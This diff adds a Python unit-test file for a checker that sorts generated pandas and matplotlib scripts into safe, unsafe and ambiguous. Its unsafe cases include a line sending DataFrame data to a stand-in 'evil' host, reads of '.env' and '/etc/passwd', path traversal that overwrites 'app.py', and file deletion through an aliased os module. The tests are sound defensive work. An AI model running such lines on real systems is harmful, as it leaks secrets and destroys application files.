@@ -0,0 +1,79 @@
+import unittest
+from nodes.python_script_checker import AMBIGUOUS, SAFE, UNSAFE, check_python_script
+
+
+HEADER = "import pandas as pd\nimport numpy as np\nimport matplotlib.pyplot as plt\nimport uuid\n"
+
+
+class CheckPythonScriptTest(unittest.TestCase):
+    def assertVerdict(self, expected, body):
+        verdict, reason = check_python_script(HEADER + body)
+        self.assertEqual(expected, verdict, reason)
+
+    def test_safe_scripts(self):
+        for body in (
+            "plt.savefig('images/chart.png')",
+            "plt.savefig(f'images/{uuid.uuid4()}.png')",
+            "path = 'images/' + str(uuid.uuid4()) + '.png'\nplt.savefig(path)",
+            "df = pd.DataFrame({'a': [1]})\nprint(df.to_markdown(index=False))",
+            "df = pd.DataFrame({'a': [1]})\nrecords = df.to_dict('records')\nvalues = df['a'].to_numpy()",
+            "np.save('images/values.npy', np.arange(3))",
+            "df = pd.read_csv('images/data.csv')",
+            "with open('images/summary.txt', 'w') as f:\n    f.write('done')",
+            "import os\nplt.savefig(os.path.join('images', f'{uuid.uuid4()}.png'))",
+            "name = uuid.uuid4().hex[:8]\nplt.savefig(f'images/chart_{name}.png')",
+            "from uuid import uuid4\nplt.savefig('images/' + str(uuid4()) + '.png')",
+            "writer = pd.ExcelWriter('images/report.xlsx')",
+        ):
+            with self.subTest(body=body):
+                self.assertVerdict(SAFE, body)
+
+    def test_unsafe_scripts(self):
+        for body in (
+            "df = pd.read_csv('.env')",
+            "df = pd.DataFrame()\npd.read_json('http://evil/?d=' + df.to_json())",
+            "np.save('/tmp/x', np.arange(3))",
+            "np.savetxt('../app.py', np.arange(3))",
+            "plt.imsave('/home/user/x.png', np.zeros((2, 2)))",
+            "df = pd.DataFrame()\ndf.to_feather('/tmp/x')",
+            "df = pd.DataFrame()\ndf.to_xml('/tmp/x')",
+            "path = 'images/x.npy'\nnp.load(path, allow_pickle=True)",
+            "from pandas import read_csv\nread_csv('/etc/passwd')",
+            "df = pd.read_parquet(path='~/data.parquet')",
+            "import subprocess",
+            "x = '../../app.py'\nopen(f'images/{x}', 'w')",
+            "open('images/' + '../app.py', 'w')",
+            "import os\nopen(os.path.join('images', '/etc/passwd'))",
+            "f = open\nf('app.py', 'w')",
+            "handles = [open]",
+            "import os\nshell = os\nshell.remove('app.py')",
+            "pd.ExcelWriter('/tmp/x.xlsx')",
+            "pd.HDFStore('/tmp/x.h5')",
+            "from matplotlib.backends.backend_pdf import PdfPages\nPdfPages('/tmp/x.pdf')",
+        ):
+            with self.subTest(body=body):
+                self.assertVerdict(UNSAFE, body)
+
+    def test_ambiguous_scripts(self):
+        for body in (
+            "def chart_path():\n    return 'images/x.png'\nplt.savefig(chart_path())",
+            "def source():\n    return 'images/x.csv'\npd.read_csv(source())",
+            "df = pd.DataFrame()\ndf.to_gbq('dataset.table')",
+            "df = pd.DataFrame()\ndf.dump_everything()",
+            "value = getattr(pd, 'read_' + 'csv')",
+            "import scipy",
+            "def name():\n    return 'chart'\nopen(f'images/{name()}', 'w')",
+            "suffix = str(len('x'))\nopen('images/' + suffix, 'w')",
+            "path = 'images/a.png'\npath += '/../../app.py'\nopen(path, 'w')",
+            "for part in ['a', 'b']:\n    plt.savefig(f'images/{part}.png')",
+            "pd.io.common.get_handle('app.py', 'w')",
+        ):
+            with self.subTest(body=body):
+                self.assertVerdict(AMBIGUOUS, body)
+
+    def test_invalid_python_is_unsafe(self):
+        self.assertVerdict(UNSAFE, "plt.savefig(")
+
+
+if __name__ == "__main__":
+    unittest.main()